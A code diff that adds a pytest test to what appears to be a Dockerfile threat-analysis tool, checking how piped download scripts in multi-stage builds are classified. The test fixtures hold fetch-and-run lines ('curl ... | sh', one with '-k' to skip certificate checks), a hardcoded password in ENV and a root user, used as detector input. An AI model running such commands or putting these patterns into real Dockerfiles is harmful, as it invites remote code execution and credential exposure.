@@ -366,6 +366,13 @@ def test_a_download_in_a_stage_that_is_copied_from_counts_and_in_another_does_no
     assert _values(unused, "piped_downloads") == []
 
 
+def test_scripts_of_a_stage_that_the_image_only_copies_from_are_told_apart() -> None:
+    step, fact = "RUN curl https://x.example/i | sh\n", "scripts_in_other_stages"
+
+    assert _values(f"FROM debian:12 AS a\n{step}FROM scratch\nCOPY --from=a /x /x\n", fact) is True
+    assert _values(f"FROM debian:12 AS a\n{step}FROM a\n", fact) is False
+
+
 def test_a_dockerfile_raises_the_threats_of_its_image_at_their_lines() -> None:
     text = "FROM debian:12\nENV DB_PASSWORD=hunter2hunter2\nRUN curl -k https://x.example/i | sh\nUSER root\n"
     model = read_files(**{"compose.yaml": _COMPOSE, "web__Dockerfile": text}).model
